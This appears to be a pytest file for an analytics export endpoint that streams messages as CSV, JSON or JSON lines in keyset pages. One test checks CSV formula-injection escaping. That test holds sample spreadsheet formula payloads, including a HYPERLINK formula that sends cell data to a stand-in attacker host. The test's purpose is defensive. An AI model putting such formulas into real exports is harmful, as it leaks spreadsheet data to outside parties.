"""/analytics/export: CSV, JSON and JSON lines of any filter, streamed in keyset pages, with
formula injection neutralised in CSV."""

import csv
import io
import json
from datetime import timedelta

import pytest

from analytics import export
from proxy.models import Message

from .conftest import T0

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def small_pages(monkeypatch):
    """Pages of 3 rows, so a handful of messages exercise the keyset paging."""
    monkeypatch.setattr(export, "PAGE_ROWS", 3)


def test_csv_has_the_json_names_as_header_and_every_message_newest_first(api, write):
    written = write({"model": "llama3.2"}, {"model": "qwen3", "cost_usd": None})

    response = api.get("/export", params={"format": "csv"})

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="messages-')
    assert response.headers["content-disposition"].endswith('.csv"')
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == list(Message.JSON_FIELDS)
    assert [row[0] for row in rows[1:]] == [m.request_id.hex for m in reversed(written)]
    newest = dict(zip(rows[0], rows[1], strict=True))
    assert (newest["model"], newest["cost"], newest["stream"]) == ("qwen3", "", "true")
    assert (newest["latency"], newest["ttft"]) == ("1.2", "0.2")


def test_csv_is_the_default_format(api, write):
    write({})

    response = api.get("/export")

    assert response.headers["content-type"].startswith("text/csv")


def test_json_is_one_array_of_the_same_rows_the_list_gives(api, write):
    write({}, {"status": "error", "error": "boom"}, {"model": "qwen3"})

    exported = api.get("/export", params={"format": "json"})
    listed = api.get("/messages").json()["messages"]

    assert exported.headers["content-type"] == "application/json"
    assert exported.headers["content-disposition"].endswith('.json"')
    assert json.loads(exported.text) == listed


def test_json_lines_are_one_message_per_line(api, write):
    write({}, {"model": "qwen3"})

    exported = api.get("/export", params={"format": "jsonl"})

    assert exported.headers["content-type"] == "application/x-ndjson"
    assert exported.headers["content-disposition"].endswith('.jsonl"')
    lines = exported.text.splitlines()
    assert [json.loads(line) for line in lines] == api.get("/messages").json()["messages"]


@pytest.mark.parametrize("export_format", ["csv", "json", "jsonl"])
def test_an_empty_export_is_still_a_valid_document(api, export_format):
    text = api.get("/export", params={"format": export_format}).text

    if export_format == "csv":
        assert list(csv.reader(io.StringIO(text))) == [list(Message.JSON_FIELDS)]
    elif export_format == "json":
        assert json.loads(text) == []
    else:
        assert text == ""


@pytest.mark.parametrize("export_format", ["csv", "json", "jsonl"])
def test_an_export_crosses_pages_without_losing_or_repeating_a_row(
    api, write, small_pages, export_format
):
    # Ties on the timestamp across page boundaries, as a burst of requests makes.
    written = write(*({"timestamp": T0 + timedelta(seconds=i // 4)} for i in range(11)))

    text = api.get("/export", params={"format": export_format}).text

    if export_format == "csv":
        ids = [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]]
    elif export_format == "json":
        ids = [row["id"] for row in json.loads(text)]
    else:
        ids = [json.loads(line)["id"] for line in text.splitlines()]
    assert sorted(ids) == sorted(message.request_id.hex for message in written)
    assert len(ids) == 11


def test_an_export_applies_the_filters(api, write):
    write({"model": "llama3.2"}, {"model": "qwen3"}, {"model": "qwen3", "status": "error"})

    text = api.get(
        "/export", params={"format": "jsonl", "model": "qwen3", "status": "success"}
    ).text

    assert [json.loads(line)["model"] for line in text.splitlines()] == ["qwen3"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(api, write):
    write(
        {
            "prompt": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "response": "+1+1",
            "user": "@SUM(A1:A9)",
            "model": "-2+3",
            "category": "\tcmd",
            "error": "\r=1",
            "endpoint": "/api/chat",
        }
    )

    rows = list(csv.reader(io.StringIO(api.get("/export").text)))
    row = dict(zip(rows[0], rows[1], strict=True))

    assert row["prompt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["response"] == "'+1+1"
    assert row["user"] == "'@SUM(A1:A9)"
    assert row["model"] == "'-2+3"
    assert row["category"] == "'\tcmd"
    assert row["error"] == "'\r=1"
    assert row["endpoint"] == "/api/chat"
    assert row["input_tokens"] == "20"


def test_json_exports_keep_the_text_as_it_was(api, write):
    write({"prompt": "=1+1", "response": "héllo ✓"})

    row = json.loads(api.get("/export", params={"format": "jsonl"}).text)

    assert (row["prompt"], row["response"]) == ("=1+1", "héllo ✓")


def test_an_unknown_format_gets_a_422(api):
    response = api.get("/export", params={"format": "xml"})

    assert response.status_code == 422
    assert "'csv', 'json' or 'jsonl'" in response.text


def test_an_export_with_a_bad_filter_gets_a_422(api):
    assert api.get("/export", params={"start_time": "soon"}).status_code == 422


def test_the_export_is_streamed_not_measured_up_front(api, write, small_pages):
    write(*({} for _ in range(10)))

    with api.stream("GET", "/export", params={"format": "jsonl"}) as response:
        headers = response.headers
        body = response.read()

    assert headers.get("transfer-encoding") == "chunked"
    assert "content-length" not in headers
    assert body.count(b"\n") == 10
